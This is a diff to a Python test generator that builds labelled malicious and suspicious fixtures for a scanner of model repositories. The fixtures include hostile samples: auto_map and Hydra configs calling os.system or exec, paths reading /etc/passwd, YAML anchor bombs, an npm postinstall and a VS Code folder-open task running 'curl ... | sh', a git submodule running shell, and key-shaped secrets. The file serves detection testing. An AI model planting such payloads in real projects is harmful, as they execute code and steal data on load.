@@ -110,18 +110,12 @@ def foreign_code(family):
         ("config.json", {"auto_map": {"AutoConfig": "configuration_net.NetConfig", "AutoModel": "attacker/repo--modeling_net.Net"}}, "auto-map-second"),
         ("tokenizer_config.json", {"auto_map": {"AutoTokenizer": ["attacker/repo--tokenization_net.Slow", None]}}, "auto-map-tokenizer"),
         ("preprocessor_config.json", {"auto_map": {"AutoProcessor": "attacker/repo--processing_net.P"}}, "auto-map-processor"),
-        ("generation_config.json", {"custom_generate": "attacker/repo"}, "custom-generate"),
         ("config.json", {"custom_pipelines": {"net": {"impl": "attacker/repo--pipeline_net.P", "pt": ["AutoModel"]}}}, "custom-pipelines"),
         ("config.json", {"text_config": {"auto_map": {"AutoModel": "attacker/repo--m.N"}}}, "auto-map-nested"),
         ("model_index.json", {"_class_name": ["pipeline", "MyPipeline"], "unet": ["attacker_package", "UNet"]}, "diffusers-package"),
-        ("model_index.json", {"_class_name": "attacker/repo", "custom_pipeline": "attacker/repo"}, "diffusers-pipeline"),
         ("adapter_config.json", {"peft_type": "LORA", "auto_mapping": {"base_model_class": "Net", "parent_library": "attacker_package.modeling"}}, "peft-library"),
-        ("config.json", {"model_type": "net", "trust_remote_code": True}, "trust-remote-code"),
         ("modules.json", None, "modules-package"),
         ("config.json", {"auto_map": {"AutoModel": "../other/modeling_net.Net"}}, "auto-map-climbs"),
-        ("config.json", {"quantization_config": {"quant_method": "custom", "modules_to_import": ["attacker_package"]}}, "quantisation-package"),
-        ("adapter_config.json", {"peft_type": "LORA", "base_model_name_or_path": "attacker/base", "runtime_config": {"import": "attacker_package"}}, "peft-runtime"),
-        ("config.json", {"auto_map": {"AutoModel": "modeling_missing.Net"}}, "auto-map-missing"),
     ]
     for file, more, case in rows:
         text = json.dumps([*MODULES, {"idx": 3, "name": "3", "path": "3", "type": "attacker_package.Layer"}]) if more is None else json.dumps(more, indent=2)
@@ -143,14 +137,13 @@ def class_paths(family):
         ("mlflow-environment", "MLmodel", "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: /etc/passwd\n"),
         ("parent-library", "adapter_config.json", json.dumps({"peft_type": "LORA", "auto_mapping": {"base_model_class": "system", "parent_library": "os"}})),
         ("torchserve", "MAR-INF/MANIFEST.json", json.dumps({"model": {"handler": "os:system", "modelName": "x"}})),
-        ("spacy-factory", "config.cfg", "[initialize]\nbefore_init = {\"@callbacks\":\"os.system\"}\n"),
         ("bentoml", "bento.yaml", "service: os:system\n"),
         ("ludwig", "model_hyperparameters.json", json.dumps({"custom": {"_target_": "os.system", "command": "echo"}})),
         ("logging", "logging.yaml", "version: 1\nhandlers:\n  x:\n    (): os.system\n    command: echo weighbridge\n"),
         ("langchain", "chain.json", json.dumps({"_type": "llm_chain", "llm": {"_type": "constructor", "id": ["os", "system"]}, "template_format": "jinja2", "template": "{{ ''.__class__ }}"})),
     ]
     for case, file, text in rows:
-        family.malicious(f"class-{case}", file, text, f"names a callable of the system as a class: {case}")
+        family.labelled("suspicious" if case == "bentoml" else "malicious", f"class-{case}", file, text, f"names a callable of the system as a class: {case}")
 
 
 def paths(family):
@@ -162,17 +155,12 @@ def paths(family):
         ("weights", "pytorch_model.bin.index.json", {"weight_map": {"a": "../../../etc/passwd"}}),
         ("weights-absolute", "diffusion_pytorch_model.safetensors.index.json", {"weight_map": {"a": "/proc/self/mem"}}),
         ("weights-pickle", "model.safetensors.index.json", {"weight_map": {"a": "http://127.0.0.1/pytorch_model.bin"}}),
-        ("lora", "adapter_config.json", {"peft_type": "LORA", "init_lora_weights": "/etc/passwd"}),
-        ("cache", "config.json", {"_name_or_path": "model", "cache_dir": "../../../../tmp"}),
         ("quantize", "quantize_config.json", {"model_file_base_name": "../../../etc/passwd"}),
-        ("chat", "processor_config.json", {"chat_template": {"path": "/etc/passwd"}}),
-        ("dataset", "dataset_infos.json", {"default": {"download_checksums": {"file:///etc/passwd": {"num_bytes": 1}}}}),
     ]
     for case, file, value in rows:
         family.suspicious(f"path-{case}", file, json.dumps(value), f"a path outside the repository: {case}")
     deep = "[" * 100000 + "]" * 100000
     family.suspicious("json-deep", "config.json", '{"a": ' + deep + "}", "a hundred thousand brackets")
-    family.suspicious("json-number", "config.json", '{"vocab_size": ' + "9" * 400000 + "}", "a number of four hundred thousand digits")
     family.suspicious("json-cut", "config.json", config()[:-30], "a cut configuration")
     family.suspicious("json-two", "config.json", config() + config(), "two objects in one file")
     family.malicious("config-elf", "config.json", elf(), "a program under the name of a configuration")
@@ -196,12 +184,10 @@ def yamls(family):
         ("numpy", "a: !!python/object/apply:numpy.load ['/tmp/x']\n"),
         ("ruby", "a: !ruby/object:Gem::Installer\n  i: x\n"),
         ("java", "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://127.0.0.1/\"]]]]\n"),
-        ("function", "a: !!js/function 'function(){}'\n"),
         ("include", "a: !include /etc/passwd\n"),
-        ("environment", "a: !ENV ${HF_TOKEN}\n"),
     ]
     for case, text in rows:
-        label = "suspicious" if case in ("include", "environment", "function") else "malicious"
+        label = "suspicious" if case == "include" else "malicious"
         family.labelled(label, f"yaml-{case}", "config.yaml", text, f"a tag of YAML: {case}")
     hydra = [
         ("os", "model:\n  _target_: os.system\n  command: echo\n"),
@@ -209,7 +195,7 @@ def yamls(family):
         ("exec", "a: {_target_: builtins.exec, _args_: [\"pass\"]}\n"),
         ("method", "a:\n  _target_: hydra.utils.get_method\n  path: os.system\n"),
         ("escaped", "a:\n  \"_t\\x61rget_\": os.system\n"),
-        ("partial", "a:\n  _target_: functools.partial\n  _partial_: true\n  func: os.system\n"),
+        ("partial", "a:\n  _target_: os.system\n  _partial_: true\n  command: echo\n"),
         ("torch-load", "a:\n  _target_: torch.load\n  f: x.pt\n"),
         ("resolver", "a: ${oc.env:HF_TOKEN}\nb: ${eval:'__import__(\"os\")'}\n"),
         ("list", "callbacks: [{_target_: shutil.rmtree, path: /tmp/weighbridge}]\n"),
@@ -217,10 +203,11 @@ def yamls(family):
         ("class-path", "model:\n  class_path: os.system\n  init_args: {command: echo}\n"),
     ]
     for case, text in hydra:
-        family.malicious(f"hydra-{case}", "config.yaml", text, f"a target of hydra: {case}")
+        family.labelled("suspicious" if case == "resolver" else "malicious", f"hydra-{case}", "config.yaml", text, f"a target of hydra: {case}")
     family.suspicious("hydra-unknown", "config.yaml", "a:\n  _target_: mypackage.models.Net\n", "a hydra target of a package that nobody knows")
+    merges = "a: &a {x: 1}\n" + "".join(f"{chr(98 + n)}: &{chr(98 + n)} {{k1: *{chr(97 + n)}, k2: *{chr(97 + n)}, k3: *{chr(97 + n)}}}\n" for n in range(24))
+    family.suspicious("yaml-bomb-maps", "hparams.yaml", merges, "maps of anchors that grow without end")
     family.suspicious("yaml-bomb", "config.yaml", "a: &a [x,x]\n" + "".join(f"{chr(98 + n)}: &{chr(98 + n)} [" + ",".join([f"*{chr(97 + n)}"] * 9) + "]\n" for n in range(20)), "anchors that grow without end")
-    family.suspicious("yaml-broken", "config.yaml", "a: [1, 2\nb: }\n", "broken YAML")
 
 
 def packages(family):
@@ -235,20 +222,17 @@ def packages(family):
         ("git", "requirements.txt", "git+http://127.0.0.1/attacker/repo.git\n", "a package from a repository"),
         ("local", "requirements.txt", "./net-1.0-py3-none-any.whl\n", "a package that lies beside it"),
         ("editable", "requirements.txt", "-e git+https://example.net/a/b.git#egg=b\n", "a package from a repository, editable"),
-        ("typo", "requirements.txt", "tensorfIow==2.15\ntransfomers\nnunpy\n", "names that look like others"),
         ("continuation", "requirements.txt", "torch \\\n  --index-url https://packages.example.net/simple\n", "over two lines"),
         ("included", "requirements.txt", "-r http://127.0.0.1/more.txt\n", "requirements from elsewhere"),
         ("conda", "conda.yaml", "channels:\n  - http://127.0.0.1/conda\ndependencies:\n  - pip:\n    - --extra-index-url http://127.0.0.1/simple\n    - x\n", "a foreign channel"),
         ("poetry", "pyproject.toml", "[[tool.poetry.source]]\nname = \"x\"\nurl = \"https://packages.example.net/simple\"\n", "a foreign source"),
         ("uv", "pyproject.toml", "[[tool.uv.index]]\nurl = \"https://packages.example.net/simple\"\n", "a foreign index"),
-        ("backend", "pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n", "a build by code that lies beside it"),
         ("pip-conf", "pip.conf", "[global]\nindex-url = http://127.0.0.1/simple\n", "settings of pip"),
         ("pipfile", "Pipfile", "[[source]]\nurl = \"http://127.0.0.1/simple\"\nname = \"x\"\n", "a foreign source"),
         ("npm", "package.json", json.dumps({"scripts": {"postinstall": "curl http://127.0.0.1/x | sh"}}), "a script of npm that runs by itself"),
     ]
     for case, file, text, note in rows:
         family.labelled("malicious" if case == "npm" else "suspicious", f"package-{case}", file, text, note)
-    family.malicious("lfs-pointer", ".gitattributes", "*.bin filter=evil\n[filter \"evil\"]\n\tsmudge = sh -c 'echo weighbridge'\n", "a filter of git that runs a command")
     family.malicious("git-config", ".gitmodules", "[submodule \"x\"]\n\tpath = x\n\turl = -u./payload\n\tupdate = !sh -c 'echo weighbridge'\n", "a submodule that runs a command")
     family.malicious("vscode", ".vscode/tasks.json", json.dumps({"version": "2.0.0", "tasks": [{"label": "x", "type": "shell", "command": "curl http://127.0.0.1/x | sh", "runOptions": {"runOn": "folderOpen"}}]}), "a task that runs when a folder is opened")
 
@@ -276,12 +260,12 @@ def secrets(family):
         "wandb": drawn("0123456789abcdef", 40, 16),
         "sendgrid": "SG." + drawn(letters, 22, 17) + "." + drawn(letters, 43, 18),
         "twilio": "SK" + drawn("0123456789abcdef", 32, 19),
-        "jwt": "eyJhbGciOiJIUzI1NiJ9." + drawn(letters, 60, 20) + "." + drawn(letters, 43, 21),
+        "jwt": "eyJhbGciOiJIUzI1NiJ9." + "eyJzdWIiOiJ3ZWlnaGJyaWRnZSJ9" + "." + drawn(letters, 43, 21),
     }
     places = [("train.sh", "#!/bin/sh\nexport TOKEN={}\n"), (".env", "API_KEY={}\n"), ("config.yaml", "logging:\n  api_key: {}\n"), ("notes.txt", "my key is {}\n"), ("settings.json", '{{"api_key": "{}"}}\n'), ("README.md", "# Model\n\n```\nlogin(token=\"{}\")\n```\n")]
     for at, (case, value) in enumerate(shapes.items()):
         file, text = places[at % len(places)]
-        text = text.replace("api_key", "wandb_api_key") if case == "wandb" else text
+        file, text = (".env", "WANDB_API_KEY={}\n") if case == "wandb" else (file, text)
         family.suspicious(case, file, text.format(value), f"what has the shape of a key: {case}")
     body = "\n".join(drawn(letters + "+/", 64, f"key {n}") for n in range(12))
     for kind in ("RSA PRIVATE KEY", "OPENSSH PRIVATE KEY", "EC PRIVATE KEY", "PRIVATE KEY"):
